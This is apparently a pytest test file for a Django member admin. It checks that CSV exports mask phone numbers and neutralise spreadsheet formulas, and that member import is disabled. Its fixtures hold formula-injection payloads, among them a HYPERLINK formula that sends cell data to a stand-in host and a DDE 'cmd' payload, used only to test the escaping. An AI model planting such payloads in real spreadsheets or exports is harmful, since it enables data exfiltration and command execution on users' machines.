"""The Member admin exports (masked phones, formulas defused) and does not import: members come
in only through import_members and its rules."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.urls import NoReverseMatch, reverse
from import_export.admin import ImportMixin

from core.export_formats import formula_escape
from members.admin import MemberAdmin
from tests.members.factories import MemberFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client):
    client.force_login(User.objects.create_superuser("root", "root@example.com", "pw-2026-root"))
    return client


def _export_csv(client) -> list[dict]:
    url = "/admin/members/member/export/"
    form = client.get(url).context["form"]
    data = {"format": "0", "resource": "0"}
    data |= {name: "on" for name in form.fields if name.startswith("memberresource_")}
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_export_masks_phones_and_defuses_formulas(admin_client, store_a):
    MemberFactory(
        card_no="800000000001",
        phone="13812345678",
        name='=HYPERLINK("http://evil.example/?"&A1,"点我")',
        home_store=store_a,
    )
    MemberFactory(card_no="800000000002", phone="13812340000", name="@SUM(1+1)", home_store=store_a)
    rows = {row["card_no"]: row for row in _export_csv(admin_client)}

    assert rows["800000000001"]["phone"] == "138****5678"
    assert rows["800000000001"]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert rows["800000000002"]["name"] == "'@SUM(1+1)"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),  # a number stays a number
        ("张伟", "张伟"),
        (-5, -5),
        (None, None),
    ],
)
def test_formula_escape(value, expected):
    assert formula_escape(value) == expected


def test_the_member_admin_has_no_import(admin_client, store_a):
    assert not issubclass(MemberAdmin, ImportMixin)
    with pytest.raises(NoReverseMatch):
        reverse("admin:members_member_import")
    assert admin_client.get("/admin/members/member/import/").status_code in (302, 404)
    member = MemberFactory(card_no="800000000003", phone="13812345678", home_store=store_a)
    upload = io.BytesIO(b"card_no,phone,name\n800000000003,138****5678,x\n")
    upload.name = "members.csv"
    admin_client.post("/admin/members/member/import/", {"format": "0", "import_file": upload})
    member.refresh_from_db()
    assert member.phone == "13812345678"
